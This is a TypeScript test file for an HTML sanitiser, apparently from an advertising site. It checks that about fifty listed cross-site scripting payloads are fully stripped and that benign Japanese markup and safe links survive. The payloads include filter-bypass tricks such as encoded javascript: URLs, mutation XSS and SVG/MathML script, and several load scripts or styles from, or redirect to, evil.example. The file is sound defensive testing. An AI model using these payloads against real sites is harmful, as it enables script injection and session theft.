// @vitest-environment jsdom
import { htmlTags } from '@adsite/contract'
import { describe, expect, test } from 'vitest'
import { sanitiseHtml } from './sanitise-html.ts'

const link = (href: string) => `<a href="${href}" rel="noopener noreferrer nofollow">x</a>`

/** Finds elements and attributes in the result that are not allowed, with a different parser than the sanitiser's. */
function foreign(html: string): string[] {
  const { head, body } = new DOMParser().parseFromString(html, 'text/html')
  return [...head.children, ...body.querySelectorAll('*')].flatMap((element) => {
    const attributes = [...element.attributes].map(({ name, value }) => [name, value] as const)
    const strange = attributes.filter(
      ([name, value]) =>
        element.localName !== 'a' || (name !== 'rel' && !(name === 'href' && /^(https?:\/\/\w|mailto:\w|\/(?!\/))/u.test(value))),
    )
    const known = (htmlTags as readonly string[]).includes(element.localName) && element.namespaceURI === 'http://www.w3.org/1999/xhtml'
    return [...(known ? [] : [element.outerHTML]), ...strange.map(([name, value]) => `${element.localName}.${name}=${value}`)]
  })
}

/** From public lists of attacks on HTML filters; nothing of them may remain. */
const attacks = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
  `<svg onload=alert(1)><circle r=1></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="/logout" method="post"><input name=a><button>x</button><textarea>y</textarea><select><option>z</option></select></form>`,
  `<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>`,
  `<style>body{display:none}</style><style>@import '//evil.example/x.css'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="https://evil.example/">`,
  `<p onclick=alert(1) onmouseover="alert(1)" id=root class=cover data-x=1>x</p>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java&#10;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;vascript:alert(1)">x</a>`,
  `<a href="&#x6A&#x61vascript:alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `<a href="blob:https://evil.example/x">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/\\evil.example">x</a>`,
  `<a href="\\\\evil.example">x</a>`,
  `<a href="/\t/evil.example">x</a>`,
  `<a href="/&#9;/evil.example">x</a>`,
  `<a href="https:evil.example">x</a>`,
  `<a href="relative/path">x</a>`,
  `<a href="https://ok.example" onclick="alert(1)" target="_top" style="color:red" ping="//evil.example" download>x</a>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<p><a href="https://ok.example/"><img src=x onerror=alert(1)></a></p>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
  `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
  `<img src=x onerror=alert(1)`,
  `<a href="https://ok.example/"x" onclick=alert(1) ">x</a>`,
]

describe('attacks', () => {
  test.for(attacks)('%s', (attack) => {
    const result = sanitiseHtml(attack)
    expect(foreign(result)).toEqual([])
    expect(result).not.toMatch(/<script|alert\(1\)\s*<\/script|javascript:/iu)
    expect(sanitiseHtml(result), 'its own result stays as it is').toBe(result)
    // Removed tags must not combine into new ones.
    expect(foreign(sanitiseHtml(`<p>${attack}</p>${attack}`))).toEqual([])
  })
})

describe('what is written', () => {
  const kept =
    '<h2>見出し</h2><h3>小見出し</h3><p>本文<br /><strong>太字</strong><em>斜体</em><u>下線</u><s>取消</s> &amp; &lt;記号&gt;</p>' +
    '<ul><li><p>項目</p></li></ul><ol><li>一</li></ol><blockquote><p>引用</p></blockquote><pre><code>x = 1</code></pre><hr />'

  test('stays as it is', () => {
    expect(sanitiseHtml(kept)).toBe(kept)
  })

  test.for([
    ['https://example.com/a?b=1&amp;c=2#d', link('https://example.com/a?b=1&amp;c=2#d')],
    ['http://example.com', link('http://example.com')],
    ['mailto:info@example.com', link('mailto:info@example.com')],
    ['/ad/campaign/1', link('/ad/campaign/1')],
    ['/', link('/')],
  ] as const)('a link to %s is kept, and says nothing of where it was clicked', ([href, expected]) => {
    expect(sanitiseHtml(`<a href="${href}" rel="opener" target="x">x</a>`)).toBe(expected)
  })

  test('a link that leads nowhere we allow leaves its words', () => {
    expect(sanitiseHtml('<p>前<a href="javascript:alert(1)">言葉</a>後</p>')).toBe('<p>前言葉後</p>')
  })

  test('elements of like meaning take their place', () => {
    expect(sanitiseHtml('<h1>題</h1><h5>小</h5><b>太</b><i>斜</i><del>消</del>')).toBe(
      '<h2>題</h2><h3>小</h3><strong>太</strong><em>斜</em><s>消</s>',
    )
  })
})
